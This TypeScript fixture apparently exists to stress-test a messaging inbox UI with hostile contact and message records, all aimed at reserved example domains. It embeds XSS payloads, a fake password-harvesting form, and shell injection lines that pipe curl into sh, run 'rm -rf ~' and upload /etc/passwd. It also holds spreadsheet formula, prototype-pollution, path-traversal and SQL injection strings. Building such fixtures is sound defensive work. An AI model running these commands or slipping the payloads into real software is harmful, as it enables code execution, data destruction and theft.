import { email, entry, type Story } from '../story';

const script = '<script>alert(document.domain)</script>';
const spoiled = '\u202Egpj.exe\u202C';

const html = `<!doctype html><html><head><base href="https://example.org/"><meta http-equiv="refresh" content="0;url=https://example.org/x"><link rel="preconnect" href="https://example.org"><style>@import url(https://example.org/a.css);body{background:url(https://example.org/b.png)}#cover{position:fixed;inset:0;z-index:9}</style>${script}</head><body onload="alert(1)"><div id="cover"></div><h1>Mailbox full</h1><p><a href="https://user@example.com:secret@example.org/login">example.com</a>, <a href="javascript:alert(1)">here</a> or <a href="command:workbench.action.quit">here</a>.</p><img src="https://example.org/pixel.gif?to=ada" width="1" height="1"><img src=x onerror="alert(1)"><svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text y="20">svg</text></a></svg><iframe src="https://example.org/frame" srcdoc="${script.replace(/"/g, '&quot;')}"></iframe><form action="https://example.org/steal"><input name="password" type="password"><button>Continue</button></form><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Unclosed <b>bold</p></body>`;

/** Text that attacks whoever renders, logs, copies or pastes it. Everything points at reserved domains. */
export const hostile: readonly Story[] = [
  {
    key: 'Hostile',
    name: `<img src=x onerror=alert(1)> ${spoiled}`,
    channel: 'SMS',
    ago: 90000,
    company: '=HYPERLINK("https://example.org","Click")',
    tags: [script, '$(trash)', '__proto__'],
    lines: [
      `<${script}`,
      '<{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> #{7*7} ${{github.token}}',
      '<\u001b[31mred\u001b[0m \u001b]8;;https://example.org\u0007link\u001b]8;;\u0007 \u001b[2J\u001b]0;title\u0007 \u009b5n',
      `<Invoice: ${spoiled} \u2066isolated\u2069 \u200b\u200f\ufeff zero width`,
      '<$(rocket) $(error~spin) [click me](command:workbench.action.quit) ![](https://example.org/p.png) **bold** <b>html</b>',
      `<"; rm -rf ~ # $(touch /tmp/x) \`id\` && curl https://example.org | sh '\\''\n--upload-file /etc/passwd`,
      '<=1+1|"calc"!A1\t+1\t-1\t@SUM(1)',
      `<${'A very long line. '.repeat(1200)}`,
      `<${'x'.repeat(20000)}`,
      `<${'line\n'.repeat(3000)}`,
      '<before\u0000after, lone \ud800 surrogate, \u2028 and \u2029',
      entry('SMS', '<Dangerous attachments', {
        attachments: [
          'javascript:alert(1)',
          'http://example.org/plain.pdf',
          'file:///etc/passwd',
          'command:workbench.action.quit',
          'vscode://example.example/open?x=1',
          'https://user:secret@example.org/file.pdf',
          'data:text/html,<script>alert(1)</script>',
          'https://example.com/files/..%2f..%2fevil.exe',
          '',
          'not a link',
        ],
      }),
      {
        type: 'TYPE_SMS',
        way: 'inbound',
        body: 'Members named after the prototype',
        more: { meta: undefined },
        verbatim:
          '"meta":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}},"__proto__":{"polluted":true},"toString":"no","hasOwnProperty":null',
      },
      entry(`SMS${script}`, '<A type with markup in it', {
        status: '"><script>alert(1)</script>',
        userId: '../../../etc/passwd',
      }),
    ],
  },
  {
    key: 'HostMail',
    name: 'Phil "Phish" O\'Ling; DROP TABLE contacts',
    channel: 'EMAIL',
    ago: 91000,
    lines: [
      email(`Urgent ${script} \u202Egnp`, [
        {
          way: 'inbound',
          html,
          more: {
            from: `"=cmd|' /C calc'!A0" <${script}@example.org>`,
            to: ['"a" <a@example.com>', 'b@example.com\r\nBcc: c@example.org'],
          },
        },
        { way: 'inbound', html: `<p>${'<div>'.repeat(400)}deep${'</div>'.repeat(400)}</p>` },
        { way: 'inbound', html: '', more: { contentType: 'text/plain', body: `Plain ${script}` } },
      ]),
    ],
  },
  {
    key: 'HostNames',
    name: `${'Very'.repeat(60)} Longname\r\nSecond\t\u001b[1mbold`,
    channel: 'FACEBOOK',
    ago: 92000,
    unread: 120,
    lines: [
      entry('FACEBOOK', '<Page named like an attack', {
        meta: { fb: { page_id: { toString: 1 }, page_name: script } },
      }),
      entry('FACEBOOK', '<Nested deeply', {
        meta: { fb: { fb: { fb: { page_id: '1', page_name: 'deep' } } } },
      }),
    ],
  },
];
